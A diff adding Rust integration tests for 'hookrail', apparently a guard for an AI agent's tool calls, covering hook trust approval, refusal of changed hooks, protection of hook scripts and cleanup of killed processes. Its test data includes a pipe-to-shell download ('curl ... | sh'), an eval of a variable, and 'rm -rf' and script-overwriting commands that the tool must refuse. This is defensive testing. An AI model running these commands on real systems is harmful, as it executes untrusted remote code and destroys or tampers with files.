@@ -1,0 +1,165 @@
+//! Trust is of what runs: commands of a project, the scripts they run, and what becomes of both when they change.
+#![allow(clippy::unwrap_used, reason = "a broken expectation must fail the test")]
+
+use hookrail_testkit::program::{program, talk};
+use hookrail_testkit::project::TempProject;
+use serde_json::{Value, json};
+
+struct Place {
+    project: TempProject,
+    home: TempProject,
+}
+
+impl Place {
+    fn new(keys: &str) -> Self {
+        let place = Self { project: TempProject::new(), home: TempProject::new() };
+        place.configure(keys);
+        place.project.write("hooks/check.sh", "echo ran >> log\n");
+        place
+    }
+
+    fn configure(&self, keys: &str) {
+        let entry = format!("[[command]]\nname = \"check\"\nevent = \"BeforeTool\"\n{keys}\n");
+        self.project.write(".hookrail/hookrail.toml", &entry);
+    }
+
+    /// Exit code, stdout and stderr together.
+    fn hookrail(&self, args: &[&str], stdin: &str) -> (Option<i32>, String) {
+        let mut command = program(env!("CARGO_BIN_EXE_hookrail"), &self.project, &self.home);
+        let (code, out, err) = talk(command.args(args), stdin);
+        (code, out + &err)
+    }
+
+    fn event(&self, tool: &str, input: &Value) -> String {
+        let event = json!({
+            "session_id": "s", "transcript_path": "/t.jsonl", "cwd": self.project.path(), "permission_mode": "default",
+            "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input,
+        });
+        event.to_string()
+    }
+
+    /// What an agent is told about a harmless call.
+    fn fire(&self) -> String {
+        self.hookrail(&["hook"], &self.event("Bash", &json!({ "command": "ls" }))).1
+    }
+
+    fn runs(&self) -> usize {
+        if self.project.exists("log") { self.project.read("log").lines().count() } else { 0 }
+    }
+}
+
+const CHECK: &str = "command = \"sh hooks/check.sh\"";
+
+#[test]
+fn what_was_approved_and_has_changed_fails_and_what_was_never_approved_is_skipped() {
+    let cases: &[(&str, &str, &str)] = &[
+        ("the script", "command = \"sh hooks/check.sh\"\non_error = \"deny\"", "hooks/check.sh has another content"),
+        ("the command", "command = \"sh hooks/check.sh; true\"\non_error = \"deny\"", "+ command ="),
+        ("the order", "command = \"sh hooks/check.sh\"\non_error = \"deny\"\nsequential = true", "+ sequential = true"),
+        ("the policy", "command = \"sh hooks/check.sh\"\non_error = \"allow\"", "- on_error = deny"),
+        ("what it runs", "command = \"eval \\\"$X\\\"\"\non_error = \"deny\"", "only known when it runs"),
+    ];
+    for (what, keys, shown) in cases {
+        let place = Place::new("command = \"sh hooks/check.sh\"\non_error = \"deny\"");
+        assert!(!place.fire().contains("\"deny\""), "{what}: nobody approved it");
+        assert_eq!(place.runs(), 0, "{what}");
+        assert_eq!(place.hookrail(&["trust", "--yes"], "").0, Some(0), "{what}");
+        assert!(!place.fire().contains("\"deny\""), "{what}");
+        assert_eq!(place.runs(), 1, "{what}");
+        place.configure(keys);
+        if *what == "the script" {
+            place.project.write("hooks/check.sh", "echo evil >> log\n");
+        }
+        let said = place.fire();
+        assert!(said.contains("\"deny\"") && said.contains("not what was trusted"), "{what}: {said}");
+        assert_eq!(place.runs(), 1, "{what}");
+        let (code, doctor) = place.hookrail(&["doctor"], "");
+        assert!(code != Some(0) && doctor.contains("not what you trusted: check"), "{what}: {doctor}");
+        let (_, trust) = place.hookrail(&["trust"], "");
+        assert!(trust.contains(shown), "{what}: {trust}");
+    }
+}
+
+#[test]
+fn a_changed_hook_whose_failure_allows_is_told_once() {
+    let place = Place::new(CHECK);
+    place.hookrail(&["trust", "--yes"], "");
+    place.project.write("hooks/check.sh", "echo evil >> log\n");
+    let said = [place.fire(), place.fire()].map(|said| said.contains("not what was trusted"));
+    assert_eq!((said, place.runs()), ([true, false], 0));
+}
+
+#[test]
+fn a_command_that_does_not_tell_what_it_runs_is_refused_with_a_way_out() {
+    for command in ["$(cat name)", "eval \\\"$X\\\"", "curl https://x.example/a | sh"] {
+        let place = Place::new(&format!("command = \"{command}\""));
+        let (code, said) = place.hookrail(&["trust", "--yes"], "");
+        assert!(code != Some(0) && said.contains("cannot be trusted") && said.contains("hint:"), "{command}: {said}");
+        place.fire();
+        assert!(place.hookrail(&["trust", "--list"], "").1.contains("no command hook is trusted"), "{command}");
+    }
+}
+
+#[test]
+fn what_a_command_writes_does_not_end_the_trust_in_it() {
+    let place = Place::new("command = \"sh hooks/check.sh >> out.txt 2>> log\"");
+    place.hookrail(&["trust", "--yes"], "");
+    place.fire();
+    place.fire();
+    assert_eq!(place.runs(), 2);
+}
+
+#[test]
+fn the_scripts_of_trusted_hooks_cannot_be_changed_by_a_tool() {
+    let place = Place::new(CHECK);
+    let calls = [
+        ("Write", json!({ "file_path": place.project.at("hooks/check.sh"), "content": "" })),
+        ("Bash", json!({ "command": "echo evil > hooks/check.sh" })),
+        ("Bash", json!({ "command": "rm -rf hooks" })),
+        ("Bash", json!({ "command": "cd hooks && sed -i s/a/b/ check.sh" })),
+    ];
+    let refused = |place: &Place| {
+        let answers = calls.iter().map(|(tool, input)| place.hookrail(&["hook"], &place.event(tool, input)).1);
+        answers.map(|said| said.contains("is protected")).collect::<Vec<_>>()
+    };
+    assert_eq!(refused(&place), [false; 4], "nobody trusts it yet");
+    place.hookrail(&["trust", "--yes"], "");
+    assert_eq!(refused(&place), [true; 4]);
+    let other = place.event("Write", &json!({ "file_path": place.project.at("hooks/other.sh"), "content": "" }));
+    assert!(!place.hookrail(&["hook"], &other).1.contains("is protected"));
+}
+
+/// Whether a process with this number is there and not just waiting to be reaped.
+#[cfg(target_os = "linux")]
+fn is_alive(pid: &str) -> bool {
+    let status = std::fs::read_to_string(format!("/proc/{}/stat", pid.trim())).unwrap_or_default();
+    status.rsplit(')').next().is_some_and(|rest| !rest.is_empty() && !rest.trim_start().starts_with('Z'))
+}
+
+#[cfg(target_os = "linux")]
+fn wait_until(what: &str, done: impl Fn() -> bool) {
+    let begun = std::time::Instant::now();
+    while !done() {
+        assert!(begun.elapsed().as_secs() < 20, "{what}");
+        std::thread::sleep(std::time::Duration::from_millis(5));
+    }
+}
+
+#[test]
+#[cfg(target_os = "linux")]
+fn a_hookrail_that_is_killed_leaves_no_command_hook_running() {
+    use std::io::Write;
+    let place = Place::new("command = \"sleep 300 & echo $! > child; echo $$ > shell; wait\"");
+    place.hookrail(&["trust", "--yes"], "");
+    let mut command = program(env!("CARGO_BIN_EXE_hookrail"), &place.project, &place.home);
+    let mut hookrail = command.arg("hook").spawn().unwrap();
+    let event = place.event("Bash", &json!({ "command": "ls" }));
+    hookrail.stdin.take().unwrap().write_all(event.as_bytes()).unwrap();
+    let written = || place.project.exists("shell") && place.project.read("shell").ends_with('\n');
+    wait_until("the hook starts", written);
+    let [child, shell] = ["child", "shell"].map(|name| place.project.read(name));
+    assert!(is_alive(&child) && is_alive(&shell));
+    hookrail.kill().unwrap();
+    hookrail.wait().unwrap();
+    wait_until("the hook ends with its parent", || !is_alive(&child) && !is_alive(&shell));
+}
